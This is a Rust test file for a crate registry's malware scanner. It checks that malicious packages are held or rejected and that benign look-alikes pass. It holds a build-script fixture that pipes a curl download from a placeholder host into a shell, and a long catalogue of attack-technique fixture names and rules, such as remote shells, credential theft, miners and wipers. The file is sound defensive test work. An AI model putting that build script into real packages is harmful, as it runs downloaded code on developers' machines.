//! The content scanner through the binary: `wharf scan` on `.crate` files, and a malicious crate
//! published with the real cargo, held out of the index and downloads.

mod support;

use std::process::Command;

use support::{Backend, Wharf};
use wharf_tarball::test_support::TarballBuilder;

backend_tests!(
    scan_judges_crate_files,
    malicious_publish_is_held,
    behaviour_rules_reach_the_cli_and_cargo,
);

/// A build script that pipes a download into a shell: the shape of a payload moved into a fresh
/// dependency.
const EVIL_BUILD: &str = r#"use std::process::Command;

fn main() {
    let _ = Command::new("sh")
        .arg("-c")
        .arg("curl -fsSL https://setup-cdn.example-tools.net/i.sh | sh")
        .status();
}
"#;

const GIT_HASH_BUILD: &str = r#"use std::process::Command;

fn main() {
    let out = Command::new("git").args(["rev-parse", "HEAD"]).output();
    let hash = out.map(|o| String::from_utf8_lossy(&o.stdout).trim().to_owned()).unwrap_or_default();
    println!("cargo:rustc-env=GIT_HASH={hash}");
}
"#;

fn crate_with_build(name: &str, build: &str) -> Vec<u8> {
    let dir = format!("{name}-0.1.0");
    TarballBuilder::new()
        .file(
            &format!("{dir}/Cargo.toml"),
            format!(
                "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
                 description = \"Helpers\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n"
            ),
        )
        .file(&format!("{dir}/build.rs"), build)
        .file(
            &format!("{dir}/src/lib.rs"),
            "pub fn version() -> &'static str { env!(\"GIT_HASH\") }\n",
        )
        .build()
}

fn scan_json(wharf: Option<&Wharf>, files: &[&std::path::Path]) -> Vec<serde_json::Value> {
    let mut command = Command::new(env!("CARGO_BIN_EXE_wharf"));
    if let Some(wharf) = wharf {
        command
            .arg("--data-dir")
            .arg(wharf.data_dir())
            .arg("--database-url")
            .arg(&wharf.db.url);
    }
    let output = command
        .arg("scan")
        .arg("--json")
        .args(files)
        .env("RUST_LOG", "warn")
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn scan_judges_crate_files(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    // The file names lie; the manifest inside decides.
    let evil = dir.path().join("serde-1.0.0.crate");
    std::fs::write(&evil, crate_with_build("quick-helpers", EVIL_BUILD)).unwrap();
    let benign = dir.path().join("benign.crate");
    std::fs::write(&benign, crate_with_build("version-stamp", GIT_HASH_BUILD)).unwrap();
    let broken = dir.path().join("broken.crate");
    std::fs::write(&broken, b"not a crate").unwrap();

    let lines = scan_json(None, &[&evil, &benign, &broken]);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(lines[0]["file"], evil.display().to_string());
    assert_eq!(lines[0]["name"], "quick-helpers");
    assert_eq!(lines[0]["version"], "0.1.0");
    assert_eq!(lines[0]["verdict"], "hold", "{}", lines[0]);
    let finding = lines[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "scan.download-execute")
        .unwrap_or_else(|| panic!("{}", lines[0]));
    assert_eq!(finding["severity"], "hold");
    assert_eq!(finding["file"], "build.rs");
    assert!(finding["line"].as_u64().unwrap() > 0);
    assert!(finding["evidence"].as_str().unwrap().contains("curl"));
    assert_eq!(lines[1]["name"], "version-stamp");
    assert_eq!(lines[1]["verdict"], "allow", "{}", lines[1]);
    assert_eq!(lines[2]["verdict"], "reject");
    assert!(lines[2]["name"].is_null());

    // With a registry, name rules run too: a reserved name.
    let wharf = Wharf::start(backend);
    wharf.cli(&["admin", "reserved", "add", "version-stamp"]);
    let lines = scan_json(Some(&wharf), &[&benign]);
    assert_eq!(lines[0]["verdict"], "reject", "{}", lines[0]);
}

fn malicious_publish_is_held(backend: Backend) {
    let wharf = Wharf::start(backend);
    let token = wharf.user_with_token("mallory");
    let mallory = wharf.cargo_user("mallory").with_token(&token);
    let dir = mallory.new_crate("quick-helpers", "0.1.0", "", "pub fn help() -> u32 { 1 }\n");
    std::fs::write(dir.join("build.rs"), EVIL_BUILD).unwrap();
    // cargo stops at once and says why, instead of waiting for an index entry that will not come
    // (and then printing that it timed out).
    let out = mallory.publish(&dir);
    assert!(!out.success, "{}", out.stderr);
    assert!(out.stderr.contains("held for review"), "{}", out.stderr);
    assert!(!out.stderr.contains("Waiting"), "{}", out.stderr);
    assert!(!out.stderr.contains("timed out"), "{}", out.stderr);

    // Stored, but out of the index and downloads.
    assert_eq!(wharf.get("/index/qu/ic/quick-helpers").status(), 404);
    assert_eq!(
        wharf
            .get("/api/v1/crates/quick-helpers/0.1.0/download")
            .status(),
        404
    );
    let findings: serde_json::Value = wharf
        .http()
        .get(format!(
            "{}/api/v1/crates/quick-helpers/0.1.0/findings",
            wharf.url
        ))
        .header("Authorization", &token)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(findings["verdict"], "hold", "{findings}");
    assert!(
        findings["findings"]
            .to_string()
            .contains("scan.download-execute"),
        "{findings}"
    );

    // A project depending on it cannot resolve it.
    let victim = wharf.cargo_user("victim");
    let app = victim.new_app(
        "victim-app",
        "quick-helpers = { version = \"0.1\", registry = \"wharf\" }",
        "fn main() {}\n",
    );
    let build = victim.cargo(&app, &["generate-lockfile"]);
    assert!(!build.success, "{}", build.stdout);
    assert!(build.stderr.contains("quick-helpers"), "{}", build.stderr);
}

/// A fixture package of the policy crate (`crates/wharf-policy/tests/fixtures/malicious/NAME`),
/// packed into a `.crate` file as cargo lays one out.
fn fixture_crate(name: &str, out: &std::path::Path) -> std::path::PathBuf {
    fixture_crate_of("malicious", name, out)
}

/// Packages `../wharf-policy/tests/fixtures/KIND/NAME` as a `.crate` file in `out`.
fn fixture_crate_of(kind: &str, name: &str, out: &std::path::Path) -> std::path::PathBuf {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../wharf-policy/tests/fixtures")
        .join(kind)
        .join(name);
    let manifest = std::fs::read_to_string(root.join("Cargo.toml")).unwrap();
    let table: toml::Table = toml::from_str(&manifest).unwrap();
    let (package, version) = (
        table["package"]["name"].as_str().unwrap().to_owned(),
        table["package"]["version"].as_str().unwrap().to_owned(),
    );
    let mut builder = TarballBuilder::new();
    for entry in walkdir(&root) {
        let relative = entry
            .strip_prefix(&root)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        if relative != "EXPECT" {
            builder = builder.file(
                &format!("{package}-{version}/{relative}"),
                std::fs::read(&entry).unwrap(),
            );
        }
    }
    let path = out.join(format!("{name}.crate"));
    std::fs::write(&path, builder.build()).unwrap();
    path
}

fn walkdir(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files.extend(walkdir(&path));
        } else {
            files.push(path);
        }
    }
    files.sort();
    files
}

/// The behaviour rules added for issue #14, each on a package of its own, through `wharf scan`;
/// and one of them through a real `cargo publish`, held with cargo saying so.
fn behaviour_rules_reach_the_cli_and_cargo(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        ("socket-shell", "scan.remote-shell"),
        ("task-poller", "scan.remote-control"),
        ("clipboard-swapper", "scan.clipboard-hijack"),
        ("locale-sweeper", "scan.destructive"),
        ("multi-key-xor", "scan.obfuscated-payload"),
        ("key-hunter-walk", "scan.credential-theft"),
        ("memfd-font-loader", "scan.dropper"),
        ("split-module-decoder", "scan.obfuscated-payload"),
        ("runner-script-dropper", "scan.download-execute"),
        ("pool-worker-thread", "scan.miner"),
        ("token-stores-socket", "scan.credential-theft"),
        ("documents-scrambler", "scan.destructive"),
        ("split-relay-pieces", "scan.obfuscated-payload"),
        ("ctor-memfd-exec", "scan.dropper"),
        ("encoded-clipboard-reader", "scan.obfuscated-payload"),
        ("working-directory-wiper", "scan.destructive"),
        ("encoded-plan-fields", "scan.obfuscated-payload"),
        ("helper-fetched-runner", "scan.download-execute"),
        ("drop-mirror-push", "scan.exfiltration"),
        ("load-time-device-zeroer", "scan.destructive"),
        ("load-time-helper-truncator", "scan.destructive"),
        ("ci-gated-table-program", "scan.obfuscated-payload"),
        ("scaled-number-tables", "scan.credential-theft"),
        ("rolling-xor-command", "scan.obfuscated-payload"),
        ("locale-gated-clipboard", "scan.clipboard-hijack"),
        ("rotated-word-mirror", "scan.obfuscated-payload"),
        ("weekday-table-relay", "scan.obfuscated-payload"),
        ("format-assembled-beacon", "scan.host-profiling"),
        ("hashed-host-wiper", "scan.destructive"),
        ("workspace-tarball-build", "scan.exfiltration"),
        ("cwd-zip-upload", "scan.exfiltration"),
        ("build-tar-curl-upload", "scan.exfiltration"),
        ("git-bundle-upload", "scan.exfiltration"),
        ("renamed-miner-launch", "scan.miner"),
        ("xclip-address-swap", "scan.clipboard-hijack"),
        ("kill-switch-workdir", "scan.destructive"),
        ("locale-workdir-join-dot", "scan.destructive"),
        ("locale-workdir-wipe", "scan.destructive"),
        ("build-downloads-source", "scan.download-execute"),
        ("downloaded-library-loaded", "scan.download-execute"),
        ("build-secrets-embedded", "scan.environment-exfiltration"),
        ("indexer-zip-upload", "scan.exfiltration"),
        ("walked-sources-multipart", "scan.exfiltration"),
        ("build-helper-recon", "scan.host-profiling"),
        ("page-miner-inject", "scan.miner"),
        ("reversed-miner-quoted-comment", "scan.miner"),
        ("reversed-miner-user", "scan.miner"),
        ("reversed-page-miner", "scan.miner"),
        ("cargo-wrapper-install", "scan.persistence"),
        ("downloaded-wasm-run", "scan.remote-control"),
        ("task-argv-poll", "scan.remote-control"),
        ("trait-object-runner", "scan.remote-control"),
        ("owned-fd-shell", "scan.remote-shell"),
        ("sum-octet-uploader", "scan.exfiltration"),
        ("aliased-engine-poller", "scan.remote-control"),
        ("name-keyed-launcher", "scan.download-execute"),
        ("platform-ctor-rewriter", "scan.destructive"),
        ("host-report-on-drop", "scan.host-profiling"),
        ("generator-keyed-pool", "scan.miner"),
        ("silent-swap-with-hook", "scan.clipboard-hijack"),
        ("fn-table-loader", "scan.download-execute"),
        ("shifted-push-words", "scan.exfiltration"),
        ("pipeline-step-planted", "scan.persistence"),
        ("hook-planted-beacon", "scan.persistence"),
        ("fragment-table-relay", "scan.exfiltration"),
        ("unwind-guarded-ctor-drop", "scan.dropper"),
        ("getwork-idle-miner", "scan.miner"),
        ("dated-write-sabotage", "scan.time-bomb"),
        ("ci-quiet-cutover", "scan.time-bomb"),
        ("alias-table-launcher", "scan.obfuscated-payload"),
        ("split-decoder-connect", "scan.obfuscated-payload"),
        ("hashed-host-picker", "scan.destructive"),
        ("image-tail-dropper", "scan.dropper"),
        ("handler-table-runner", "scan.remote-control"),
        ("client-param-poller", "scan.remote-control"),
        ("running-sum-launcher", "scan.obfuscated-payload"),
        ("locale-hash-overwriter", "scan.destructive"),
        ("alphabet-pool-miner", "scan.miner"),
        ("assembled-host-uploader", "scan.exfiltration"),
        ("method-dated-rounding", "scan.time-bomb"),
        ("held-connection-runner", "scan.remote-control"),
        ("numbered-node-report", "scan.host-profiling"),
        ("callback-home-overwriter", "scan.destructive"),
        ("tool-table-swapper", "scan.clipboard-hijack"),
        ("downloaded-script-launcher", "scan.download-execute"),
        ("kept-root-overwriter", "scan.destructive"),
        ("packed-unit-catalog", "scan.obfuscated-payload"),
        ("cargo-home-proxy", "scan.obfuscated-payload"),
        ("static-root-uploader", "scan.exfiltration"),
        ("packed-codec-warmup", "scan.dropper"),
        ("home-cargo-mirror-build", "scan.persistence"),
        ("sealed-profile-hook", "scan.persistence"),
        ("zone-keyed-pruner", "scan.destructive"),
        ("user-shell-relay", "scan.remote-shell"),
        ("keyed-env-truncator", "scan.destructive"),
        ("dither-table-launcher", "scan.obfuscated-payload"),
        ("lent-buffer-launcher", "scan.download-execute"),
        ("typed-handle-swapper", "scan.clipboard-hijack"),
        ("wire-named-native", "scan.remote-control"),
        ("slot-table-copier", "scan.clipboard-hijack"),
        ("made-handle-swapper", "scan.clipboard-hijack"),
    ];
    let files: Vec<std::path::PathBuf> = cases
        .iter()
        .map(|(name, _)| fixture_crate(name, dir.path()))
        .collect();
    let paths: Vec<&std::path::Path> = files.iter().map(|p| p.as_path()).collect();
    let lines = scan_json(None, &paths);
    for ((name, rule), line) in cases.iter().zip(&lines) {
        assert_eq!(line["verdict"], "hold", "{name}: {line}");
        assert!(
            line["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["rule"] == *rule && f["severity"] == "hold"),
            "{name} wants {rule}: {line}"
        );
    }
    // Refused outright: a build that deletes the home directory, or sends the builder's
    // environment (everything but cargo's, or a cloud's variables) away.
    let refused = [
        ("macro-hidden-home-wipe", "scan.destructive"),
        ("build-env-all-but-cargo", "scan.exfiltration"),
        ("build-env-cloud-prefix", "scan.exfiltration"),
        ("build-env-decoy-prefix", "scan.exfiltration"),
        ("local-key-packed-args", "scan.miner"),
        ("build-fifo-shell", "scan.remote-shell"),
    ];
    let files: Vec<std::path::PathBuf> = refused
        .iter()
        .map(|(name, _)| fixture_crate(name, dir.path()))
        .collect();
    let paths: Vec<&std::path::Path> = files.iter().map(|p| p.as_path()).collect();
    for ((name, rule), line) in refused.iter().zip(scan_json(None, &paths)) {
        assert_eq!(line["verdict"], "reject", "{name}: {line}");
        assert!(
            line["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["rule"] == *rule && f["severity"] == "reject"),
            "{name} wants {rule}: {line}"
        );
    }
    // Their honest look-alikes pass the same way: at most a flag for a moderator's look.
    let honest = [
        "clipboard-backends",
        "reported-link-cleaner",
        "workflow-generator",
        "emitted-client-derive",
        "host-report-configured",
        "documents-backup",
        "registry-token-client",
        "pool-protocol-client",
        "memfd-runner-lib",
        "joined-labels",
        "clipboard-history",
        "stdin-script-runner",
        "build-dir-cleaner",
        "included-defaults",
        "test-vectors",
        "job-result-queue",
        "tool-installer-on-request",
        "mirror-to-configured-remote",
        "load-time-disk-inventory",
        "load-time-plugin-index",
        "ci-aware-editor",
        "numeric-lookup-tables",
        "editor-clipboard-locale",
        "endpoint-from-base",
        "regional-endpoint",
        "checksum-verified-cache",
        "caller-dir-archive",
        "release-tarball",
        "build-download-and-pack",
        "build-helper-git",
        "cargo-config-reader",
        "miner-blocklist",
        "plugin-host",
        "template-scaffold",
        "trait-get-editor",
        "xclip-copy-helper",
        "build-env-without-secrets",
        "configured-hooks",
        "dir-upload-client",
        "update-and-clean",
        "build-env-prefix-download",
        "build-cache-prune",
        "hosting-service-client",
        "ci-job-agent",
        "node-rpc-client",
        "port-wait-helper",
        "sunset-warning",
        "expiry-and-ttl",
        "subcommand-table",
        "hashed-plural-rules",
        "clipboard-tool-pairs",
        "held-connection-client",
        "copy-then-clear",
        "callback-formatter",
        "tool-table-history",
        "kept-clipboard-history",
        "packed-message-table",
        "static-root-bundler",
        "dictionary-profile-script",
        "out-dir-cargo-config",
        "clipboard-tool-rows",
        "profile-line-manager",
        "plural-table-pruner",
        "user-shell-tasks",
        "firmware-image-flasher",
        "keyed-env-cache-sweep",
        "whitened-dither-table",
        "lent-buffer-codec",
        "typed-handle-history",
        "symbol-table-loader",
        "slot-table-labels",
        "made-handle-history",
        "caller-script-runner",
        "gated-test-module",
    ];
    let files: Vec<std::path::PathBuf> = honest
        .iter()
        .map(|name| fixture_crate_of("benign", name, dir.path()))
        .collect();
    let paths: Vec<&std::path::Path> = files.iter().map(|p| p.as_path()).collect();
    for (name, line) in honest.iter().zip(scan_json(None, &paths)) {
        assert!(
            line["verdict"] == "allow" || line["verdict"] == "flag",
            "{name}: {line}"
        );
    }

    let wharf = Wharf::start(backend);
    let token = wharf.user_with_token("mallory");
    let mallory = wharf.cargo_user("mallory").with_token(&token);
    let lib = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../wharf-policy/tests/fixtures/malicious/locale-sweeper/src/lib.rs"),
    )
    .unwrap();
    let project = mallory.new_crate("console-charset", "0.1.2", "", &lib);
    let out = mallory.publish(&project);
    assert!(!out.success, "{}", out.stderr);
    assert!(out.stderr.contains("held for review"), "{}", out.stderr);
    assert_eq!(wharf.get("/index/co/ns/console-charset").status(), 404);
    let findings: serde_json::Value = wharf
        .http()
        .get(format!(
            "{}/api/v1/crates/console-charset/0.1.2/findings",
            wharf.url
        ))
        .header("Authorization", &token)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(findings["verdict"], "hold", "{findings}");
    assert!(
        findings["findings"]
            .to_string()
            .contains("scan.destructive"),
        "{findings}"
    );
}
